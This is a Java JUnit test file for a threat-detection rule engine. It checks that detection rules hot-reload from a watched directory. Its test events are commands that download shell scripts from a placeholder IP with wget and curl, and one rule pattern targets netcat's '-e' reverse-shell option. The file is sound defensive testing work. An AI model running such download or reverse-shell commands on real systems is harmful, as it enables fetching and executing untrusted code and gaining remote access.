package org.ttp4j.engine;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.BooleanSupplier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.ttp4j.index.RuleIndex;
import org.ttp4j.rule.Problem;
import org.ttp4j.rule.RuleState;
import org.ttp4j.store.RuleStore;
import org.ttp4j.store.fs.FilesystemRuleStore;

/** Rule files saved, edited and deleted in a watched directory change what the engine tags, without a restart. */
class HotReloadTest {

    private static final Event WGET = RuleEngineTest.command("wget http://198.51.100.7/x.sh");
    private static final Event CURL = RuleEngineTest.command("curl -s http://198.51.100.7/y.sh");

    static String rule(String id, int version, String pattern) {
        return "rule_id: " + id + "\nrule_version: " + version + "\nname: download\napplies_to: [command]\n"
                + "match:\n  pattern: '" + pattern + "'\n"
                + "emits:\n  - {technique_id: T1105, tactic: TA0011, confidence: 0.7}\n";
    }

    /** Saves like an editor that writes a scratch file then renames it over the rule file. */
    static void save(Path dir, String name, String content) throws Exception {
        Path tmp = dir.resolve("." + name + ".swp");
        Files.writeString(tmp, content, StandardCharsets.UTF_8);
        Files.move(tmp, dir.resolve(name), StandardCopyOption.ATOMIC_MOVE);
    }

    /** Polls (the store publishes from its reader thread); a generous bound only guards against a hang. */
    static void eventually(BooleanSupplier condition, String what) throws InterruptedException {
        long deadline = System.nanoTime() + 10_000_000_000L;
        while (!condition.getAsBoolean()) {
            if (System.nanoTime() > deadline) {
                throw new AssertionError("not within 10 s: " + what);
            }
            Thread.sleep(2);
        }
    }

    private static List<String> rulesFor(RuleEngine engine, Event e) {
        return engine.evaluate(e).stream().map(Tag::ruleId).toList();
    }

    @Test
    void aSavedRuleIsLiveAndAnEditReplacesIt(@TempDir Path tmp) throws Exception {
        Path dir = Files.createDirectories(tmp.resolve("rules")); // its state file is a sibling: keep it inside tmp
        Files.writeString(dir.resolve("R0001.yaml"), rule("R0001", 1, "wget\\s+http"));
        List<Problem> problems = new CopyOnWriteArrayList<>();
        try (FilesystemRuleStore store = FilesystemRuleStore.builder(dir).problems(problems::add).open()) {
            RuleIndex index = new RuleIndex(RuleIndex.engineOwned());
            RuleEngine engine = new RuleEngine(index);
            try (RuleStore.Subscription sub = index.watch(store)) {
                assertEquals(List.of("R0001"), rulesFor(engine, WGET));
                assertEquals(List.of(), rulesFor(engine, CURL));

                save(dir, "R0002.yaml", rule("R0002", 1, "curl\\s+(-s\\s+)?http"));
                eventually(() -> rulesFor(engine, CURL).equals(List.of("R0002")), "a new rule file fires");

                Files.writeString(dir.resolve("R0001.yaml"), rule("R0001", 2, "wget\\s+ftp"));
                eventually(() -> rulesFor(engine, WGET).isEmpty(), "an edited pattern replaces the old one");
                assertEquals(2, index.snapshot().rule("R0001").ruleVersion());

                Files.writeString(dir.resolve("R0001.yaml"), "rule_id: R0001\nrule_version: [\n");
                // Barrier: the store reads its directory's events in order, so once a later file is live the
                // invalid edit has been read and rejected (docs/stores.md §4).
                save(dir, "R0003.yaml", rule("R0003", 1, "nc\\s+-e"));
                eventually(() -> index.snapshot().rule("R0003") != null, "a file saved after the invalid edit is live");
                assertEquals(2, index.snapshot().rule("R0001").ruleVersion(), "the last good version stays live");
                assertEquals(List.of(), rulesFor(engine, WGET));
                assertEquals(1, problems.size(), problems.toString());
                assertTrue(problems.get(0).isError() && problems.get(0).toString().contains("R0001.yaml"), problems.toString());

                store.setState("R0002", RuleState.of(RuleState.Mode.DISABLED), "test");
                assertEquals(List.of(), rulesFor(engine, CURL), "a state change is applied before setState returns");
            }
        }
    }

    @Test
    void aDeletedRuleStopsFiring(@TempDir Path tmp) throws Exception {
        Path dir = Files.createDirectories(tmp.resolve("rules")); // its state file is a sibling: keep it inside tmp
        Files.writeString(dir.resolve("R0001.yaml"), rule("R0001", 1, "wget\\s+http"));
        Files.writeString(dir.resolve("R0002.yaml"), rule("R0002", 1, "curl\\s+(-s\\s+)?http"));
        try (FilesystemRuleStore store = FilesystemRuleStore.open(dir)) {
            RuleIndex index = new RuleIndex(RuleIndex.engineOwned());
            RuleEngine engine = new RuleEngine(index);
            try (RuleStore.Subscription sub = index.watch(store)) {
                assertEquals(List.of("R0001"), rulesFor(engine, WGET));
                Files.delete(dir.resolve("R0001.yaml"));
                eventually(() -> rulesFor(engine, WGET).isEmpty(), "a deleted rule stops firing");
                assertEquals(null, index.snapshot().rule("R0001"));
                assertEquals(List.of("R0002"), rulesFor(engine, CURL), "the other rule is untouched");
                assertTrue(index.snapshot().size() == 1);
            }
        }
    }
}
